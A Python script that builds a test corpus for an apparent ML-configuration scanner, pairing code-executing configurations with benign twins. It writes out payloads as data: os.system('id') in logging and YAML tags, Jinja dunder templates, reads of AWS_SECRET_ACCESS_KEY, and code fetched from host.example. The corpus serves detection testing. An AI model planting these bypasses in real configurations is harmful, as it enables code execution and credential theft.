#!/usr/bin/python3
"""make.py [FOLDER]: writes files/ and cases.jsonl: configurations that were once accepted and make a loader run code, each beside one
that does not: a rule was there, and a spelling, a place or a loader's habit went around it.  By the rules of formats/configs.
Always the same bytes; nothing here is loaded, and names that are not a library's name nothing that exists.
"""
import json
import os
import struct
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "tests", "support"))
from corpus_cases import Cases  # noqa: E402 pylint: disable=wrong-import-position

ACCEPTED = {"format-side-file", "config-environment", "config-yaml-syntax-local"}
REJECTED = {"config-target", "config-import", "config-code-file", "config-remote-code", "config-expression-dangerous", "config-library",
            "config-path-escape", "config-requirement-insecure", "template-dunder", "yaml-python-tag"}


class Attacks(Cases):
    """What is neither rejected nor accepted is held."""
    def verdict_of(self, codes):
        codes = set(codes)
        return "reject" if codes & REJECTED else "review" if codes - ACCEPTED else "accept"


CORPUS = Attacks(sections=True)
SIDE = "format-side-file"
KEPT = ("template-dunder",)


def one(name, file, data, words="", why="", side="format-side-file"):
    """One configuration, under the name that its loader looks for; codes without `config-`."""
    data = json.dumps(data) if isinstance(data, (dict, list)) else data
    codes = " ".join(w if w in KEPT else "config-" + w for w in words.split())
    CORPUS.case(f"{name}/{file}", data, codes + " " + side, why)


def aliases():
    layer = "[-1, 1, {}, ['import own']]"
    tail = "head:\n  - [-1, 1, Detect, [nc]]\n"
    one("alias-layers", "y.yaml", f"nc: 3\nx: &b\n  - {layer.format('exec')}\nbackbone: *b\n" + tail,
        "expression expression-dangerous", "layers are judged where the alias stands")
    one("alias-layer", "y.yaml", f"nc: 3\nx: &b {layer.format('exec')}\nbackbone:\n  - *b\n" + tail,
        "expression expression-dangerous", "one layer by an alias")
    one("alias-layers-not", "y.yaml", "nc: 3\nx: &b\n  - [-1, 1, Conv, [64]]\nbackbone: *b\n" + tail, "", "honest layers")
    one("alias-packages", "conda.yaml", "x: &d ['git+https://host.example/x']\ndependencies: *d\n", "requirement", "packages")
    one("alias-packages-not", "conda.yaml", "x: &d ['numpy==1.24']\ndependencies: *d\n", "", "packages of the index")
    one("alias-imports", "c.yaml", "x: &c {imports: [own_package]}\ncustom_imports: *c\n", "import-unlisted", "mmengine's imports")
    one("alias-imports-not", "c.yaml", "x: &c {imports: [mmdet.models]}\ncustom_imports: *c\n", "", "its own modules")
    one("alias-name", "config.yaml", "x: &c {name: own_package.run}\npipeline: *c\n", "target-unlisted", "pyannote's pipeline")
    one("alias-name-not", "config.yaml", "x: &c {name: own_package.run}\npipelines: *c\n", "", "another key")
    one("alias-merged", "config.yaml", "x: &c {name: own_package.run}\npipeline:\n  <<: [*c]\n", "target-unlisted", "by a merge key")
    one("alias-inline", "config.yaml", "pipeline:\n  <<: {name: own_package.run}\n", "target-unlisted", "merged as it stands there")
    one("alias-searched", "c.yaml", "hydra:\n  x: &s ['pkg://own_package']\n  searchpath: *s\n", "import-unlisted", "Hydra's path")
    one("alias-searched-not", "c.yaml", "hydra:\n  x: &s ['file://conf']\n  searchpath: *s\n", "", "no package")


def monai():
    load = {"_target_": "LoadImaged", "keys": "a"}
    one("prose-monai", "inference.json", {"x": load, "input": "$own.run('id')"}, "expression", "a key whose texts are prose elsewhere")
    one("prose-monai-not", "x.json", {"input": "$own.run 'id'"}, "", "prose")
    one("prose-import", "evaluate.json", {"imports": ["$import own"], "run": ["$own.f()"]}, "expression import-unlisted",
        "nothing else tells that it is a bundle's")
    one("prose-import-not", "evaluate.json", {"imports": ["import own"], "run": ["$HOME/own", "$(own)", "$5"]}, "", "no expression")
    one("prose-hydra", "c.yaml", "_target_: torch.nn.Linear\nprompt: ${oc.env:AWS_SECRET_ACCESS_KEY}\n", "environment-secret",
        "filled in whatever the key")
    one("prose-hydra-not", "c.yaml", "prompt: ${oc.env:AWS_SECRET_ACCESS_KEY}\n", "", "prose of a file that calls nothing")
    one("word-own", "inference.json", {"x": {"_target_": "Own"}}, "target-unlisted", "no class of MONAI's: imported")
    one("word-class", "inference.json", {"x": {"_target_": "LoadImageD"}}, "", "one of its classes")
    one("word-runner", "inference.json", {"x": {"_target_": "nnUNetV2Runner"}}, "target-unlisted", "runs programs")


def logs():
    file = ("[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=f\n[logger_root]\nhandlers=h\n[handler_h]\nclass={}\nargs={}\n"
            "[formatter_f]\nformat=%(message)s\n")
    one("log-args", "logging.conf", file.format("StreamHandler", "(__import__('os').system('id'),)"), "expression-dangerous",
        "fileConfig() evaluates the arguments")
    one("log-class", "logging.conf", file.format("exec('import own')", "()"), "expression-dangerous", "and the class")
    one("log-own", "logging.conf", file.format("own_package.Handler", "()"), "target-unlisted", "or imports it")
    head = file[:file.index("[handler_h]")]
    one("log-default", "logging.conf", "[DEFAULT]\nclass=own_package.Handler\n" + head + "[handler_h]\nargs=()\n", "target-unlisted",
        "from the section that all have")
    one("log-capitals", "logging.conf", head + "[handler_h]\nCLASS=StreamHandler\nArgs=(open('x'),)\n", "expression-dangerous",
        "keys in capitals")
    one("log-lines", "logging.conf", head + "[handler_h]\nclass=StreamHandler\nargs=(\n\n  open('x'),)\n", "expression-dangerous",
        "a value that goes on")
    one("log-brackets", "x.ini", head + "[handler_h]\nclass=StreamHandler\nargs=[open('x')]\n", "expression-dangerous", "a list")
    one("log-filled", "logging.conf", "[DEFAULT]\na=(open('x'),)\n" + head + "[handler_h]\nclass=StreamHandler\nargs=%(a)s\n",
        "expression", "configparser fills it in")
    one("log-default-usual", "x.ini", "[DEFAULT]\nclass=fast\nargs=3\n[own]\nclass=own\n", "", "an ordinary file")
    one("log-lines-usual", "logging.conf", head + "[handler_h]\nclass=StreamHandler\nargs=(\n  sys.stdout,)\n", "", "a usual value")
    one("log-usual", "logging.conf", file.format("StreamHandler", "(sys.stdout,)"), "", "as MONAI's bundles have it")
    one("log-rotating", "logging.conf", file.format("handlers.RotatingFileHandler", "('x.log', 'a', 1000, 3)"), "", "another usual one")
    one("log-factory", "l.yaml", "version: 1\nhandlers:\n  a:\n    (): own_package.make\n", "target-unlisted", "dictConfig() calls it")
    one("log-factory-os", "l.json", {"version": 1, "formatters": {"a": {"()": "os.system"}}}, "target", "and anything")
    one("log-factory-usual", "l.yaml", "version: 1\nformatters:\n  a:\n    (): colorlog.ColoredFormatter\n", "", "Hydra's")
    one("log-external", "l.yaml", "version: 1\nx: ext://own_package.y\n", "import-unlisted", "imported")
    one("log-stream", "l.yaml", "version: 1\nhandlers:\n  a:\n    class: logging.StreamHandler\n    stream: ext://sys.stdout\n", "", "usual")
    one("log-handler", "l.yaml", "version: 1\nhandlers:\n  a:\n    class: own_package.Handler\n", "target-unlisted", "imported")


def yolo():
    model = "nc: 3\nbackbone:\n  - [-1, 1, {}, [{}]]\nhead:\n  - [-1, 1, Detect, [nc]]\n"
    one("yolo-function", "y.yaml", model.format("check_requirements", "'own'"), "expression", "a function that installs")
    one("yolo-loader", "y.yaml", model.format("DetectMultiBackend", "'own.pt'"), "expression", "a class that loads")
    one("yolo-module", "y.yaml", model.format("own_module", "64, 3"), "", "another's module, with numbers")
    one("yolo-class", "y.yaml", model.format("nn.Upsample", "None, 2, 'nearest'"), "", "torch's")
    one("yolo-code", "d.yaml", "train: a\nval: b\ndownload: import own\n", "expression", "exec()ed without a bracket")
    one("yolo-http", "d.yaml", "train: a\nval: b\ndownload: |\n  http = 1\n  import own\n", "expression", "it only begins as an address")
    one("yolo-address", "d.yaml", "train: a\nval: b\ndownload: https://host.example/coco8.zip\n", "", "an address")
    one("yolo-none", "d.yaml", "train: a\nval: b\ndownload:\n", "", "nothing")


def files():
    """What another file is taken for, by the one that includes it."""
    one("include-text", "hyperparams.yaml", "a: !include:README.md\n", "import-unlisted", "read as YAML, and judged as prose")
    one("include-yaml", "hyperparams.yaml", "a: !include:model.yaml\n", "", "judged as YAML")
    one("include-gin", "config.gin", "include 'base.md'\n", "import-unlisted", "read as gin")
    one("include-gin-not", "config.gin", "include 'base.gin'\n", "", "judged as gin")
    one("include-base", "c.yaml", "_BASE_: x.md\n", "import-unlisted", "read as YAML")
    one("include-base-not", "c.yaml", "_BASE_: x.yaml\n", "", "judged as YAML")
    one("include-requirements", "requirements.txt", "-r other\n", "requirement", "read as requirements")
    one("include-requirements-not", "requirements.txt", "-r other.txt\n", "", "another list")
    one("module-pickle", "pickle_module_info.txt", "own_package", "import-unlisted", "MLflow imports it")
    one("module-pickle-os", "pickle_module_info.txt", "os", "import", "and anything")
    one("module-pickle-usual", "pickle_module_info.txt", "mlflow.pytorch.pickle_module", "", "as MLflow writes it")
    one("module-keras", "keras_module.txt", "own_package.keras", "import-unlisted", "MLflow imports it")
    one("module-keras-usual", "keras_module.txt", "tensorflow.keras", "", "as MLflow writes it")
    one("refused-tag", "x.yaml", "a:\t- 1\nx: !new:own_package.Net\n", "yaml-syntax", "another parser takes it, and what is behind")
    one("refused-word", "x.yaml", "a:\t- 1\nx: new own_package.Net\n", "yaml-syntax-local", "no tag")


def mlflow():
    model = "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n    env: {{virtualenv: {}}}\n"
    one("env-own", "MLmodel", model.format("e.yaml"), "requirement", "a list of packages that is not judged as one")
    one("env-outside", "MLmodel", model.format("../e.yaml"), "path-escape", "outside")
    one("env-artifact", "MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n"
        "    artifacts: {a: {path: ../x}}\n", "path-escape", "given to the model's code")
    one("env-usual", "MLmodel", model.format("python_env.yaml"), "", "as MLflow writes it")


def requirements():
    one("pip-second", "requirements.txt", "--pre --index-url https://host.example/simple\n", "requirement", "a second option")
    one("pip-second-find", "requirements.txt", "--no-index -f ./wheels\n", "requirement", "a second option")
    one("pip-first", "requirements.txt", "--pre\n--no-index\ntorch==2.4.0\n", "", "one on each line")
    one("pip-encoded", "requirements.txt", "# coding: utf-7\nown +AEA- https+ADoALwAv-host.example+AC8-x+AC4-whl\n", "requirement",
        "pip decodes it")
    one("pip-encoded-not", "requirements.txt", "# -*- coding: utf-8 -*-\ntorch==2.4.0\n", "", "what it is anyway")
    one("pip-in", "requirements.in", "own @ https://host.example/x.whl\n", "requirement", "another name of it")
    one("pip-list", "deps.txt", "# ours\ntorch==2.4.0\nown @ git+https://host.example/x\n", "requirement", "a list that -r may name")
    one("pip-prose", "notes.txt", "git+https://host.example/x is where it comes from, they said.\nInstall it!\n", "", "prose")
    one("pip-addresses", "urls.txt", "https://host.example/x.zip\nhttps://host.example/y.zip\n", "", "a list of addresses")
    one("pip-dev", "dev-requirements.txt", "torch==2.4.0\n", "", "another name of it")
    one("conda-channel", "conda.yaml", "channels: ['https://host.example/c']\ndependencies: [python=3.8]\n", "requirement", "an index")
    one("conda-usual", "conda.yaml", "channels: [conda-forge, 'https://conda.anaconda.org/pytorch']\ndependencies: [python=3.8]\n", "",
        "usual ones")


def keys():
    """Keys that no rule had."""
    quantized = {"model_type": "llama", "quantization_config": {"quant_method": "compressed-tensors", "format": "own.py:Own"}}
    one("format-file", "config.json", quantized, "code-file", "compressed-tensors runs it")
    quantized["quantization_config"] = {"quant_method": "compressed-tensors", "format": "pack-quantized",
                                        "sparsity_config": {"format": "own.py:Own"}}
    one("format-sparse", "config.json", quantized, "code-file", "in another place")
    quantized["quantization_config"]["sparsity_config"]["format"] = "dense"
    one("format-word", "config.json", {**quantized, "x": {"format": "own.py:Own"}}, "", "words; and where nobody reads it")
    timm = {"model_type": "timm_wrapper", "architecture": "resnet18"}
    one("timm-outside", "config.json", {**timm, "model_args": {"checkpoint_path": "../own.pth"}}, "path-escape", "unpickled")
    one("timm-inside", "config.json", {**timm, "model_args": {"checkpoint_path": "own.pth"}, "checkpoint_path": "../own.pth"}, "",
        "judged as what it is; and where nobody reads it")
    one("trust-hyphens", "server.yaml", "model: a/b\ntrust-remote-code: true\n", "trust-flag", "as vLLM's command line has it")
    one("trust-hyphens-not", "server.yaml", "model: a/b\ntrust-remote-code: false\n", "", "not trusted")
    one("vllm-parser", "server.yaml", "model: a/b\ntool-parser-plugin: own.py\n", "auto-map", "a program", )
    one("vllm-parser-not", "server.yaml", "model: a/b\ntool-call-parser: own\n", "", "a word")
    one("vllm-worker", "server.yaml", "model: a/b\nworker-cls: own_package.Worker\n", "import-unlisted", "imported")
    one("vllm-worker-own", "server.yaml", "model: a/b\nworker-cls: vllm.worker.worker.Worker\n", "", "its own")
    tool = {"provider": "autogen_core.tools.FunctionTool", "component_type": "tool",
            "config": {"source_code": "def f(x): return x", "global_imports": []}}
    one("autogen-code", "tool.json", tool, "expression", "a tool's text is run")
    one("autogen-provider", "tool.json", {**tool, "config": {}, "provider": "own_package.Own"}, "target-unlisted", "imported")
    one("autogen-own", "tool.json", {**tool, "config": {}}, "", "its own")
    one("autogen-untyped", "tool.json", {"provider": "own_package.Own", "config": {}}, "target-unlisted", "the type may be missing")
    one("autogen-known", "model.json", {"provider": "OpenAIChatCompletionClient", "component_type": "model",
                                        "config": {"model": "some-model"}}, "", "a word that is looked up")
    one("autogen-studio", "team.json", {**tool, "config": {}, "provider": "autogenstudio.datamodel.Own"}, "", "its own")
    one("autogen-word", "settings.json", {"provider": "aws", "config": {"region": "a.b"}}, "", "a word, of another program")
    one("autogen-import", "tool.json", {**tool, "config": {"source_code": "", "global_imports": ["os; os.system('id')"]}}, "expression-dangerous",
        "behind `import`, as it is")
    one("autogen-imports", "tool.json", {**tool, "config": {"source_code": "", "global_imports": [
        {"module": "own_package", "imports": ["a", {"name": "b", "alias": "c"}]}]}}, "import-unlisted", "a module")
    one("autogen-imports-none", "tool.json", {**tool, "config": {"source_code": "", "global_imports": []}}, "", "none")
    one("vllm-scheduler", "server.yaml", "model: a/b\nscheduler-cls: own_package.Scheduler\n", "import-unlisted", "imported")
    one("vllm-middleware", "server.yaml", "model: a/b\nmiddleware: [own_package.Own]\n", "import-unlisted", "imported")
    one("vllm-middleware-not", "server.yaml", "site: a\nmiddleware: [own_package.Own, auth]\n", "", "of another program")
    one("vllm-logits", "server.yaml", "model: a/b\nlogits-processors: ['own_package:Own']\n", "import-unlisted", "imported")
    pipe = ("components:\n  a:\n    type: haystack.components.generators.OpenAIGenerator\n    init_parameters:\n"
            "      streaming_callback: {}\n      unsafe: {}\nconnections: []\n")
    one("haystack-callback", "p.yaml", pipe.format("own_package.f", "false"), "import-unlisted", "imported")
    one("haystack-unsafe", "p.yaml", pipe.format("null", "true"), "trust-flag", "templates with all of Python")
    one("haystack-own", "p.yaml", pipe.format("haystack.components.generators.utils.print_streaming_chunk", "false"), "", "its own")
    one("ray-entry", "serve.yaml", "applications:\n- import_path: own:app\n", "auto-map", "imported")
    one("haystack-splitter", "p.yaml", pipe.format("own_package.f", "false").replace("streaming_callback", "splitting_function"),
        "import-unlisted", "imported")
    one("ray-entry-dots", "serve.yaml", "applications:\n- import_path: own.app\n  runtime_env: {}\n", "auto-map", "imported")
    one("ray-entry-dots-not", "x.yaml", "import_path: own.app\n", "", "of another program")
    one("ray-entry-not", "serve.yaml", "applications:\n- import_path: own\n", "", "no entry")
    one("ray-fetch", "serve.yaml", "runtime_env: {py_modules: ['https://host.example/x.zip']}\n", "remote-code", "fetched and imported")
    one("ray-fetch-not", "serve.yaml", "runtime_env: {py_modules: [own]}\n", "", "of this folder")
    bento = "name: m\nversion: a\nmodule: {}\nsignatures: {{}}\n"
    one("bento-module", "model.yaml", bento.format("own_package"), "import-unlisted", "imported")
    one("bento-own", "model.yaml", bento.format("bentoml.sklearn"), "", "its own")
    server = {"name": "a", "implementation": "mlserver_sklearn.SKLearnModel"}
    one("mlserver-tar", "model-settings.json", {**server, "parameters": {"environment_tarball": "./e.tar.gz"}}, "library-vendor",
        "a Python that is run")
    one("mlserver-colon", "model-settings.json", {"name": "a", "implementation": "own_package:Model"}, "import-unlisted", "imported")
    one("mlserver-repository", "settings.json", {"model_repository_implementation": "own_package.Own"}, "import-unlisted", "imported")
    one("mlserver-none", "model-settings.json", {**server, "parameters": {"uri": "./m"}}, "", "none")
    spacy = "[nlp]\nlang = \"en\"\npipeline = [\"ner\"]\n\n[components]\n\n[components.ner]\nsource = \"{}\"\n"
    one("spacy-package", "config.cfg", spacy.format("own_package"), "import-unlisted", "imported")
    one("spacy-path", "config.cfg", spacy.format("../x"), "path-escape", "opened")
    one("spacy-own", "config.cfg", spacy.format("en_core_web_sm"), "", "its own")
    one("path-template", "p.json", {"_type": "prompt", "template_path": "../x.txt"}, "path-escape", "LangChain opens it")
    one("path-template-inside", "p.json", {"_type": "prompt", "template_path": "x.txt"}, "", "inside")
    prompt = {"_type": "prompt", "template_format": "jinja2", "template": "{{ ''.__class__.__mro__ }}"}
    one("template-prompt", "p.json", prompt, "template-dunder", "LangChain renders it")
    one("template-prompt-plain", "p.json", {**prompt, "template_format": "f-string"}, "", "no Jinja")
    one("path-examples", "p.json", {"_type": "few_shot", "examples": "../x.json"}, "path-escape", "LangChain opens it")
    module = {"idx": 0, "name": "0", "type": "sentence_transformers.models.Pooling"}
    one("path-scheme", "modules.json", [{**module, "path": "FILE:///x"}], "path-absolute", "in capitals")
    one("path-scheme-not", "modules.json", [{**module, "path": "1_FILE"}], "", "a folder")
    one("serve-handler", "MANIFEST.json", {"model": {"handler": "own.py", "modelName": "a"}}, "code-file", "TorchServe's, unpacked")
    one("serve-module", "MANIFEST.json", {"model": {"handler": "own", "modelName": "a"}}, "code-file", "a module of the archive")
    one("serve-word", "MANIFEST.json", {"model": {"handler": "image_classifier", "modelName": "a"}}, "", "its own")
    one("serve-fetch", "config.properties", "load_models=https://host.example/x.mar\n", "remote-code", "fetched and run")
    one("serve-all", "config.properties", "load_models=all\n", "", "those that are there")
    one("template-toml", "x.toml", "chat_template = \"{{ ''.__class__.__mro__ }}\"\n", "template-dunder", "a template of TOML")
    one("template-toml-fair", "x.toml", "chat_template = \"{{ messages[0]['content'] }}\"\n", "", "an honest one")


def triton():
    def model(name, rest, words="", why=""):
        one("triton-" + name, "config.pbtxt", "name: \"m\"\nbackend: \"onnxruntime\"\n" + rest + "\n", words, why)
    model("operators", "model_operations { op_library_filename: \"own\" }", "library", "dlopen()ed, without an ending")
    model("labels", "output [ { name: \"x\" label_filename: \"../x\" } ]", "path-escape", "opened")
    model("labels-own", "output [ { name: \"x\" label_filename: \"labels.txt\" } ]", "", "inside")
    model("warmup", "model_warmup [ { inputs { key: \"a\" value { input_data_file: \"../x\" } } } ]", "path-escape", "opened")
    model("devices", "cc_model_filenames [ { key: \"7.5\" value: \"../x.pt\" } ]", "path-escape", "opened")
    model("runtime", "runtime: \"own.so\"", "library", "dlopen()ed")
    model("runtime-none", "runtime: \"\"", "", "as the server writes it")
    model("runtime-python", "runtime: \"model.py\"", "", "a backend of the server's that is Python")
    model("runtime-known", "runtime: \"libtriton_onnxruntime.so\"", "", "as the server fills it in")
    model("runtime-other", "runtime: \"libtriton_own.so\"", "library-vendor", "as a backend by that name")
    model("agent", "model_repository_agents { agents [ { name: \"own\" } ] }", "library-vendor", "a library by that name")
    model("agent-own", "model_repository_agents { agents [ { name: \"checksum\" } ] }", "", "the server's own")
    one("triton-backend", "config.pbtxt", "name: \"m\"\nbackend: \"own\"\n", "library-vendor", "a library by that name")


def names():
    call = "x:\n  _target_: {}\n"
    one("name-popen", "c.yaml", call.format("monai.utils.misc.Popen"), "target-unlisted", "a class that a module has imported")
    one("name-pool", "c.yaml", call.format("transformers.utils.hub.ThreadPoolExecutor"), "target-unlisted", "another")
    one("name-own", "c.yaml", call.format("transformers.BertModel"), "", "its own class")
    one("name-path", "config.yaml", "model:\n  class_path: own_package.Net\n", "target-unlisted", "init_args may be left away")
    one("name-path-word", "config.yaml", "model:\n  class_path: own_package\n", "", "no class")
    one("name-target", "config.yaml", "model:\n  first_stage_config:\n    target: own_package.Net\n", "target-unlisted",
        "params may be left away")
    one("name-target-not", "config.yaml", "model:\n  first_stage:\n    target: own_package.Net\n", "", "no configuration of one")
    one("name-registry", "c.yaml", "_base_: [a.yaml]\nmodel:\n  type: own_package.Net\n", "target-unlisted",
        "mmengine imports what is not registered")
    one("name-registry-function", "c.yaml", "_base_: [a.yaml]\nmodel:\n  type: mmengine.utils.package_utils.call_command\n",
        "target-unlisted", "a function of its own that runs programs")
    one("name-registry-class", "c.yaml", "_base_: [a.yaml]\nmodel:\n  type: mmdet.models.FasterRCNN\n", "", "a class of its own")
    one("name-registry-word", "c.yaml", "_base_: [a.yaml]\nmodel:\n  type: FasterRCNN\n", "", "a word")
    one("name-pool-own", "hyperparams.yaml", "a: !new:speechbrain.dataio.dataset.Thread\n", "target-unlisted",
        "a class that a vouched library has imported")
    one("name-partial", "hyperparams.yaml", "a: !name:speechbrain.dataio.dataio.partial\n", "target-unlisted", "and a function")
    tag = "!!python/object/apply:os.system ['id']"
    pair = "a: \"{}\"\nb: !ref {}\n"
    CORPUS.case("refer-bracket/x.yaml", "m: !new:torch.nn.ReLU\n" + pair.format(tag, "(<a>)"), "yaml-python-tag " + SIDE,
                "HyperPyYAML puts the text into brackets, and reads it")
    one("refer-pieces", "x.yaml", "m: !new:torch.nn.ReLU\n" + pair.format("1, 2", "(<a><a>)"), "yaml-tag", "put together")
    one("refer-numbers", "x.yaml", "m: !new:torch.nn.ReLU\n" + pair.format("Well! 1", "(<a>, <a>)"), "", "nothing of a tag")
    one("refer-nothing", "x.yaml", pair.format(tag, "<a>").replace("!ref", "ref"), "", "nobody's file")
    one("attention-deep", "config.json", {"model_type": "a", "attn_implementation": {"a": {"b": "mallory/kernel"}}}, "remote-code",
        "parts of parts")
    one("attention-deep-word", "config.json", {"model_type": "a", "attn_implementation": {"a": {"b": "sdpa"}}, "c": "mallory/kernel"},
        "", "words")
    one("fill-resolver", "c.yaml", "n: env\nx: ${oc.${n}:AWS_SECRET_ACCESS_KEY}\n", "expression", "a resolver by another key")
    one("fill-variable", "c.yaml", "n: AWS_SECRET_ACCESS_KEY\nx: ${oc.env:${n}}\n", "environment-secret", "a variable by another key")
    one("fill-key", "c.yaml", "n: a\nx: ${a.${n}}\na: {a: 1}\n", "", "a key by another key")


def safetensors(meta):
    header = json.dumps({"__metadata__": meta, "a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    header += b" " * (-len(header) % 8)
    return struct.pack("<Q", len(header)) + header + bytes(4)


def inside():
    def meta(name, text, words="", why=""):
        one("inside-" + name, "m.safetensors", safetensors({"config": text}), words, why, side="")
    evil = '"_target_": "builtins.exec"'
    meta("nan", '{"a": NaN, %s}' % evil, "target-unlisted", "no JSON, but Python's json.loads() takes it")
    meta("literal", "{'_target_': 'builtins.exec'}", "target-unlisted", "ast.literal_eval(), FlexTok's")
    meta("padded", " " * (1 << 20) + "{%s}" % evil, "target-unlisted", "longer than is looked at")
    meta("deep", '{"a": %s%s, %s}' % ("[" * 600, "]" * 600, evil), "target-unlisted", "deeper than is looked at")
    meta("inner", json.dumps({"x": "{%s}" % evil}), "target-unlisted", "JSON in JSON")
    meta("mark", "\ufeff{%s}" % evil, "target-unlisted", "behind a byte order mark")
    meta("yaml", "_target_: builtins.exec\n", "target-unlisted", "YAML")
    meta("literal-not", "{'target': 'builtins.exec'}", "", "no key of ours")
    meta("nan-not", '{"a": NaN, "b": 1}', "", "nothing is called")
    meta("prose", "Trained with the _target_size of 512", "", "a longer word")


for section in (aliases, monai, logs, yolo, files, mlflow, requirements, keys, triton, names, inside):
    section()
CORPUS.write()
